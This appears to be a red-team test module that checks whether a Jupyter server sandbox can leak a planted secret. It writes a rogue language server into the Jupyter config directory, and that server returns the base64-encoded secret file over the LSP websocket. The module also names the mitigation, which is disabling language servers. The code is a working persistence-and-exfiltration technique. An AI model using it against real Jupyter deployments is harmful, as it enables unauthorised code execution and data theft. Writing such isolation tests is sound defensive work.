from __future__ import annotations

import contextlib
import json

from tests.redteam.channel import channel
from tests.redteam.targets import Target
from tests.redteam.wire import GONE, open_socket

PROGRAM = """
import base64, json, sys
length = 0
while True:
    line = sys.stdin.readline()
    if line.lower().startswith("content-length"):
        length = int(line.split(":")[1])
    elif not line.strip():
        asked = json.loads(sys.stdin.read(length))
        text = base64.b64encode(open("language.bin", "rb").read()).decode()
        answer = json.dumps({"jsonrpc": "2.0", "id": asked.get("id"), "result": {"x": text}})
        sys.stdout.write(f"Content-Length: {len(answer)}\\r\\n\\r\\n{answer}")
        sys.stdout.flush()
"""
WRITE = f"""
import json, os, sys
from jupyter_core.paths import jupyter_config_dir
open("language.py", "w").write({PROGRAM!r})
folder = os.path.join(jupyter_config_dir(), "jupyter_server_config.d")
os.makedirs(folder, exist_ok=True)
server = {{"argv": [sys.executable, "language.py"], "languages": ["python"], "version": 2,
          "mime_types": ["text/x-python"], "display_name": "x"}}
json.dump({{"LanguageServerManager": {{"language_servers": {{"carried": server}}}}}},
          open(os.path.join(folder, "language.json"), "w"))
"""


def plant(site: Target, secret: bytes) -> None:
    site.run(WRITE)


@channel(
    "language-server",
    "A language server of the attacker's own, that the server starts and passes on",
    closed_by="no language servers; the desk's configuration is in its image",
    plant=plant,
)
def attack(site: Target, secret: bytes) -> bytes | None:
    site.keep("language.bin")
    got = site.get("lsp/status").body
    with contextlib.suppress(*GONE):
        socket = open_socket(site, "lsp/ws/carried")
        with contextlib.closing(socket):
            socket.send(json.dumps({"jsonrpc": "2.0", "id": 1, "method": "initialize", "params": {}}))
            socket.settimeout(5)
            got += str(socket.recv()).encode()
    return got
